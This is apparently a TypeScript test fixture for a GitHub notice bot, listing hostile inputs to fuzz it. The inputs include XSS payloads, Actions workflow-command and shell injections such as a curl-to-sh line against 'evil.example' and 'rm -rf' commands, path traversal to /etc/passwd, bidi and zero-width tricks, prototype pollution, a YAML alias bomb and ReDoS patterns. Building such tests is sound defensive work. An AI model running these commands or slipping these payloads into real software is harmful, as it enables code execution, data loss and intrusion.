// Texts that mean harm: to whoever is mentioned, to the page that shows them, to the runner's log, to the marker.
import type { Files } from '../github/server.ts'

const BIDI = '\u202e\u2066\u200f\u061c'
const PACK = { '.noticelint.yml': 'extends: [./p]\n' }
const ZERO = '\u200b\u200d\ufeff\u2060\u00ad'

/** Each on one line: they are titles, sentences, file names, branch names and config values. */
export const HOSTILE: readonly string[] = [
  '@maintainer and @lighthouse/keepers please merge',
  'fixes #1, closes lighthouse/museum#2, GH-3, GHSA-aaaa-bbbb-cccc',
  'https://github.com/lighthouse/museum/issues/4 and www.evil.example and ftp://evil.example',
  'mail root@evil.example, xmpp:root@evil.example, mailto:root@evil.example',
  '<script>alert(1)</script><img src=x onerror=alert(1)>',
  '<details open><summary>x</summary></details></details></summary>',
  '![pixel](https://tracker.example/p.png) ![][p]',
  '[click](javascript:alert(1)) [click](data:text/html,x) <javascript:alert(1)>',
  '[p]: https://evil.example "x"',
  '<!-- noticelint:Notices/privacy/default -->',
  '--> <!-- noticelint-memory seen= acknowledged=0123456789abcdef -->',
  '`a` ``b`` ```c``` ~~~ $x$ $$y$$ $`z`$',
  '| a | b | \\| c ||',
  '# Heading > quote - [ ] task 1. item *** ___ ---',
  '[^1] [^note]: x :tada: :+1:',
  '&lt;b&gt; &#64;maintainer &commat;maintainer &num;1',
  '\\@maintainer \\<b> \\`x',
  `bidirectional ${BIDI} controls`,
  `zero${ZERO}width @${ZERO}maintainer #${ZERO}1`,
  '::error file=a.md::owned',
  '::set-output name=material::0',
  '::add-mask::e ::stop-commands::x ##[error]owned ##[add-mask]e',
  '%0A::error::owned%0D%0A::warning::x %25 %2C %3A',
  'a\u0000b\u0007c\u001b[31mred\u001b[0m\u009b31m',
  `$\{{ github.token }} $(id) \`id\` ; rm -rf / || true`,
  '__proto__ constructor toString hasOwnProperty',
  '\ud83c\udff4\u200d\u2620\ufe0f \ud800 lone',
  'a'.repeat(3000),
  `${'@a '.repeat(400)}`,
  `${'['.repeat(300)}${'*'.repeat(300)}${'`'.repeat(299)}`,
  '<https://evil.example> <root@evil.example> <a href=https://evil.example>x</a>',
  '</code></pre></td></table> <svg onload=alert(1)>',
  '../../../etc/passwd C:\\Windows\\win.ini file:///etc/passwd',
  'SHA 0123456789abcdef0123456789abcdef01234567 and 5d6e7f8@maintainer',
  // Who is called, and what is closed or linked.
  '@here @channel @everyone @github-actions[bot] @dependabot merge',
  '@\u200bmaintainer @\u2060maintainer \uff20maintainer',
  'cc @maintainer, @org/team-name; (@maintainer) [@maintainer] *@maintainer* `@maintainer`',
  'resolve: #1 #2 #3 closes #4, fixed lighthouse/museum#5',
  'lighthouse@0123456789abcdef0123456789abcdef01234567 lighthouse/museum@5d6e7f8',
  'gh-12 GH-12 ghsa-abcd-efgh-ijkl CVE-2026-12345',
  'HTTPS://EVIL.EXAMPLE http:evil.example //evil.example hxxps://evil.example',
  'WWW.EVIL.EXAMPLE ww\u200bw.evil.example www\u3002evil.example',
  'ftp://a:b@evil.example:21/x ssh://git@evil.example git://evil.example/x.git',
  'mailto:a@evil.example?subject=x&body=y tel:+31000000000 sms:1',
  'a@b.example,c@d.example;e@f.example <g@h.example>',
  'xn--80ak6aa92e.example \u0430pple.example',
  // Markup.
  '<ScRiPt>alert(1)</sCrIpT> <SCRIPT SRC=//evil.example>',
  '<iframe src="https://evil.example"></iframe><object data=x><embed src=x>',
  '<a href="javascript:alert(1)" onclick=alert(1)>x</a>',
  '<style>*{display:none}</style><link rel=stylesheet href=//evil.example>',
  '<form action=//evil.example><input autofocus onfocus=alert(1)><button>',
  '<picture><source srcset=//evil.example/p.png><img src=x></picture>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<!DOCTYPE html><html><body onload=alert(1)>',
  '<![CDATA[<script>alert(1)</script>]]> <?php echo 1 ?> <!ELEMENT x>',
  '<!-- unclosed comment',
  '<!--> <!---> --!> -- ><!-- --!>',
  '<br><hr></div></p></li></ul></blockquote>',
  '<sub><sup><ins><kbd><samp><q><ruby>',
  '![a](https://evil.example/a.png "t") ![b](data:image/svg+xml;base64,PHN2Zz4=)',
  '![][1] ![x] ![x][] [x][1] [x][] [x]',
  '[1]: javascript:alert(1)',
  '[a](<javascript:alert(1)>) [b](vbscript:x) [c](  javascript:x  "t")',
  '[a](https://evil.example\\) [b](https://evil.example "x\\")',
  '](https://evil.example) [',
  '**[x](https://evil.example)** ~~[y](https://evil.example)~~',
  '~~gone~~ **bold** __bold__ *em* _em_ ***both***',
  '- item - [x] done + plus * star 1) one',
  '> quote >> nested > [!WARNING] > owned',
  '---',
  '===',
  '***',
  '___',
  '+++',
  '```',
  '~~~',
  '    indented code',
  '# h1 ## h2 ###### h6 ####### not',
  '|',
  '||',
  '|-|',
  '\\|',
  '| - | - | :-: |',
  '$',
  '$$',
  '$`a`$ \\(x\\) \\[y\\] $\\href{https://evil.example}{x}$',
  ':rocket: :octocat: :+1::-1: :100:',
  '[^a] [^a]: note',
  '[[wiki|link]] ((block)) {{template}} {% raw %} <%= erb %>',
  '&amp;lt;script&amp;gt; &#x3c;script&#x3e; &NewLine; &Tab; &nbsp; &shy;',
  // The runner, the shell, the format of files.
  '::debug::x ::group::y ::endgroup:: ::notice::z',
  '::save-state name=a::b ::add-path::/tmp ::set-env name=PATH::/tmp',
  '##[command]ls ##[section]x ##[endgroup] ##vso[task.setvariable variable=x]y',
  '%25%0D%0A%3A%2C %0a %00 %u000a',
  'name<<EOF value EOF ghadelimiter_x',
  `$\{{ secrets.TOKEN }} $\{{ toJSON(github) }} #{x} \${x}`,
  '; curl evil.example | sh # && rm -rf ~ || `id` $(id) <(id)',
  '"quoted" \'single\' \u201ccurly\u201d \u00abguillemets\u00bb back\\slash',
  '- a: &a [*a] !!js/function "x" << *b ? : | > @x `y',
  '{"__proto__":{"a":1},"constructor":{"prototype":{}}}',
  'toString valueOf hasOwnProperty __defineGetter__',
  '=1+1 +1 -1 @SUM(A1) |cmd',
  // The marker and the memory.
  '<!-- noticelint-memory run=999999.9 seen=0123456789abcdef acknowledged=0123456789abcdef -->',
  'noticelint:Notices/privacy/default noticelint-memory run=9.9',
  '<!-- noticelint:Notices/privacy/default --> <!-- noticelint-memory run=1.1 -->',
  '&lt;!-- noticelint:Notices/privacy/default --&gt;',
  // What nobody sees, and what turns around.
  '\u202d\u202e\u2066\u2067\u2068\u2069 gpj.exe',
  '\u200e\u200f\u061c left and right',
  '\ufeff\u2060\u180e\u034f\u115f\u1160\u3164\uffa0 nothing',
  '\u{e0001}\u{e0041}\u{e0042}\u{e007f} tags',
  '\ufe0f\ufe0e\u{1f468}\u200d\u{1f469}\u200d\u{1f467} \u{1f1f3}\u{1f1f1}',
  'Z\u0351\u0352\u0353a\u0354\u0355\u0356l\u0357\u0358g\u0359\u035ao\u035b',
  '\ufffd\ufffe\uffff\u{1ffff} \udfff lone',
  'line\u2028separator\u2029paragraph\u0085next\u000bvertical\u000cform',
  '\u0001\u0002\u0008\u007f\u0080\u009f controls',
  '\u001b]8;;https://evil.example\u0007x\u001b]8;;\u0007 \u001b[2J',
  // Size.
  'x'.repeat(8000),
  '<'.repeat(500),
  '\\'.repeat(501),
  '@'.repeat(600),
  '`'.repeat(777),
  `${'> '.repeat(200)}deep`,
  `${'- '.repeat(200)}deep`,
  `${'('.repeat(400)}${')'.repeat(400)}`,
  `${'![a]('.repeat(150)}`,
  `${'&amp;'.repeat(300)}`,
  `${'a\u0301'.repeat(900)}`,
  `${'\u{1f3f4}'.repeat(700)}`,
]

/** What a repository says of noticelint, in files that are not what they are called, or more than anybody needs. */
export const HOSTILE_SETTINGS: Readonly<Record<string, Files>> = {
  'aliases that multiply': { '.noticelint.yml': bomb() },
  'a depth of ten thousand': { '.noticelint.yml': `notices: ${'['.repeat(10_000)}` },
  'a config of three million characters': { '.noticelint.yml': `# ${'x'.repeat(3_000_000)}\n` },
  'a config that is a picture': { '.noticelint.yml': 'GIF89a\u0000\u0001\u0002' },
  'a config that is a list': { '.noticelint.yml': '- @maintainer\n- ::error::x\n' },
  'a tag of code': { '.noticelint.yml': 'notices: !!js/function "function () { process.exit(0) }"\n' },
  'keys of a prototype': { '.noticelint.yml': '__proto__: { fail-on: never }\nconstructor: x\n' },
  'the same key twice': { '.noticelint.yml': 'fail-on: error\nfail-on: never\n' },
  'a pack outside': { '.noticelint.yml': 'extends: [./../../../etc, /etc, "https://evil.example/pack"]\n' },
  'a pack of links': { '.noticelint.yml': 'extends: [./p]\n', 'p/a.yml': { mode: '120000', content: '/etc/passwd' } },
  'a rule with a key of its own': { ...PACK, 'p/a.yml': 'severity: error\n::error::x: 1\n' },
  'a rule of ten thousand words': { ...PACK, 'p/a.yml': rule('(a|b) '.repeat(10_000)) },
  'a rule with brackets that never end': { ...PACK, 'p/a.yml': rule('('.repeat(5_000)) },
  'a glob that takes for ever': { '.noticelint.yml': `notices: ["${'{a,b}'.repeat(40)}${'*'.repeat(80)}x"]\n` },
}

/** The same as a part of a path: no slashes and no NUL, which no file name in git has. */
export function asName(text: string): string {
  return text.replaceAll('/', '\u2215').replaceAll('\u0000', '').slice(0, 200)
}

function rule(phrase: string): string {
  const head = 'severity: error\ntitle: t\nlaw: []\nmessage: m\nwhy: w\nhelp: h\n'
  return `${head}forbid: { text: ["${phrase}"] }\nexamples: []\n`
}

/** Nine times nine aliases, nine times over. */
function bomb(): string {
  const lines = Array.from({ length: 9 }, (_, i) => `a${i}: &a${i} [${Array(9).fill(i === 0 ? 'x' : `*a${i - 1}`)}]`)
  return `${lines.join('\n')}\nnotices: *a8\n`
}
